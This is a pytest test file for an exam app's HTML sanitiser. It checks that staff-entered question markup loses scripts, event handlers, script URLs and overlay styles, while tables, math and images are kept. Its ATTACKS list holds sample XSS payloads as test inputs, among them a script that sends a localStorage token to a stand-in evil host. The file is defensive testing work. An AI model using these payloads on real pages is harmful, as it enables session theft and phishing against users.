"""Staff-written HTML reaches the apps' web views with nothing that runs, and with what questions need."""

import importlib

import pytest
from django.apps import apps

from exams.html import clean_html, html_to_text
from exams.models import Answer, Direction, Question
from tests.factories import AnswerFactory, DirectionFactory, QuestionFactory

ATTACKS = [
    # Script elements, with their content.
    ("<p>Q1<script>fetch('https://evil.example/?t='+localStorage.token)</script></p>", "<p>Q1</p>"),
    ("<svg><script>alert(1)</script></svg><p>Q</p>", "<p>Q</p>"),
    ('<iframe src="https://evil.example"></iframe><p>Q</p>', "<p>Q</p>"),
    ('<object data="https://evil.example/x.swf"></object><p>Q</p>', "<p>Q</p>"),
    ('<form action="https://evil.example"><input name="password"></form><p>Q</p>', "<p>Q</p>"),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example"><p>Q</p>', "<p>Q</p>"),
    # Event handlers.
    ('<img src="circuit.png" onerror="alert(1)">', '<img src="circuit.png">'),
    ('<p onclick="steal()" onmouseover="steal()">Q</p>', "<p>Q</p>"),
    ('<span class="math-tex" onfocus="x()" tabindex="0">y</span>', '<span class="math-tex">y</span>'),
    # Script URLs, however they are spelled.
    ('<a href="javascript:alert(1)">notes</a>', '<a rel="noopener noreferrer">notes</a>'),
    ('<a href=" JaVaScRiPt&#x3A;alert(1)">notes</a>', '<a rel="noopener noreferrer">notes</a>'),
    ('<a href="jav&#x09;ascript:alert(1)">notes</a>', '<a rel="noopener noreferrer">notes</a>'),
    ('<a href="vbscript:msgbox(1)">notes</a>', '<a rel="noopener noreferrer">notes</a>'),
    ('<a href="data:text/html,&lt;script&gt;alert(1)">x</a>', '<a rel="noopener noreferrer">x</a>'),
    ('<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">', "<img>"),
    ('<img src="x.png" srcset="javascript:alert(1)">', '<img src="x.png">'),
    # Styles: an overlay asking for the password again, a style URL, a whole style sheet.
    (
        '<div style="position:fixed;top:0;left:0;width:100%;height:100%">Log in again</div>',
        "<div>Log in again</div>",
    ),
    ('<p style="background:url(javascript:alert(1))">Q</p>', "<p>Q</p>"),
    ("<style>body { display: none }</style><p>Q</p>", "<p>Q</p>"),
    ('<link rel="stylesheet" href="https://evil.example/x.css"><p>Q</p>', "<p>Q</p>"),
    # A comment some web views treat as markup.
    ("<!--[if IE]><script>alert(1)</script><![endif]--><p>Q</p>", "<p>Q</p>"),
]

KEPT = [
    (
        '<table><caption>Readings</caption><thead><tr><th scope="col" colspan="2">V</th></tr></thead>'
        '<tbody><tr><td rowspan="2">1.5</td><td>0.3</td></tr><tr><td>0.6</td></tr></tbody></table>'
    ),
    '<p><img src="https://cdn.example.com/q/12.png" alt="circuit" width="320" height="200"></p>',
    '<img src="/media/questions/graph.png" alt="graph">',
    "<p>H<sub>2</sub>O and x<sup>2</sup> + y<sup>2</sup></p>",
    '<p>Find <span class="math-tex">\\(\\frac{a}{b} &lt; \\sqrt{2}\\)</span> when \\[x^2 = 4\\].</p>',
    '<div class="MathJax_Display">$$E = mc^2$$</div>',
    '<p lang="hi">निम्नलिखित में से कौन सा कथन सही है? <strong>सही उत्तर</strong> चुनें।</p>',
    '<ol start="2"><li>पहला</li><li>second</li></ol><ul><li><em>a</em></li><li><u>b</u></li></ul>',
    "<p><b>Given</b>: <i>m</i> = 2 kg,<br>g = 9.81 m/s²</p><blockquote>Newton</blockquote><pre>x = 1</pre>",
    '<p>See <a href="https://example.com/notes" rel="noopener noreferrer">the notes</a>.</p>',
]


class TestCleanHtml:
    @pytest.mark.parametrize(("html", "cleaned"), ATTACKS)
    def test_what_could_run_in_a_web_view_is_removed(self, html, cleaned):
        assert clean_html(html) == cleaned

    @pytest.mark.parametrize("html", KEPT)
    def test_what_questions_need_survives_unchanged(self, html):
        assert clean_html(html) == html

    def test_cleaning_twice_changes_nothing_more(self):
        for html, _ in ATTACKS:
            assert clean_html(clean_html(html)) == clean_html(html)


@pytest.mark.django_db
class TestEveryWriteIsCleaned:
    SCRIPTED = '<p onclick="steal()">प्रश्न<script>steal()</script></p>'

    def test_a_question_and_its_explanation(self):
        question = QuestionFactory(question_html=self.SCRIPTED, explanation_html=self.SCRIPTED)
        question.refresh_from_db()
        assert (question.question_html, question.explanation_html) == ("<p>प्रश्न</p>", "<p>प्रश्न</p>")

    def test_a_direction(self):
        direction = DirectionFactory(html=self.SCRIPTED)
        assert Direction.objects.get(pk=direction.pk).html == "<p>प्रश्न</p>"

    def test_a_choice(self):
        answer = AnswerFactory(text_html='<img src="x" onerror="steal()">')
        assert Answer.objects.get(pk=answer.pk).text_html == '<img src="x">'

    def test_a_later_edit(self):
        answer = AnswerFactory()
        answer.text_html = '<a href="javascript:steal()">4</a>'
        answer.save(update_fields=["text_html"])
        assert Answer.objects.get(pk=answer.pk).text_html == '<a rel="noopener noreferrer">4</a>'


@pytest.mark.django_db
def test_the_migration_cleans_what_was_stored_before():
    migration = importlib.import_module("exams.migrations.0003_clean_stored_html")
    question = QuestionFactory(with_choices=2, direction=DirectionFactory())
    kept = question.answers.last()
    # Rows written before saves cleaned them.
    Question.objects.filter(pk=question.pk).update(question_html=TestEveryWriteIsCleaned.SCRIPTED)
    Direction.objects.update(html='<p style="position:fixed">x</p>')
    Answer.objects.filter(pk=question.answers.first().pk).update(text_html='<img src="x" onerror="y()">')

    migration.clean_stored_html(apps, None)

    question.refresh_from_db()
    assert question.question_html == "<p>प्रश्न</p>"
    assert question.explanation_html == "<p>Because.</p>"
    assert question.direction.html == "<p>x</p>"
    assert list(question.answers.values_list("text_html", flat=True)) == ['<img src="x">', kept.text_html]


class TestHtmlToText:
    @pytest.mark.parametrize(
        "html, text",
        [
            ("<p>What is <b>2</b> + 2?</p>", "What is 2 + 2?"),
            ("<p>First line</p><p>second&nbsp;line</p>", "First line second line"),
            ("H<sub>2</sub>O &amp; CO<sub>2</sub>", "H2O & CO2"),
            (r'<p>Find <span class="math-tex">\(x^2 &lt; 3\)</span></p>', r"Find \(x^2 < 3\)"),
            ('<p>Which circuit?</p><p><img src="/media/c.png" alt="circuit"></p>', "Which circuit? [image]"),
            ("<ul><li>one</li><li>two</li></ul>", "one two"),
            ("<p>Q</p><script>steal()</script><style>p{}</style>", "Q"),
            ("", ""),
        ],
    )
    def test_reads_as_the_student_would(self, html, text):
        assert html_to_text(html) == text

    def test_cuts_long_text_with_an_ellipsis(self):
        assert html_to_text("<p>" + "word " * 30 + "</p>", 20) == "word word word word…"


@pytest.mark.django_db
class TestNamesAreText:
    """Question lists, select boxes and messages name rows by text, never by markup."""

    def test_a_question_by_its_number_and_text(self):
        question = QuestionFactory(question_html=r'<p>Solve <span class="math-tex">\(x^2=4\)</span></p>')
        assert str(question) == rf"Q{question.pk}: Solve \(x^2=4\)"

    def test_a_choice_and_a_direction_by_their_text(self):
        assert str(AnswerFactory(text_html="<p><b>4</b> m/s</p>")) == "4 m/s"
        assert str(DirectionFactory(html="<p>Read the passage &amp; answer.</p>")) == (
            "Read the passage & answer."
        )

    def test_an_image_only_choice_still_has_a_name(self):
        assert str(AnswerFactory(text_html='<p><img src="/media/a.png"></p>')) == "[image]"
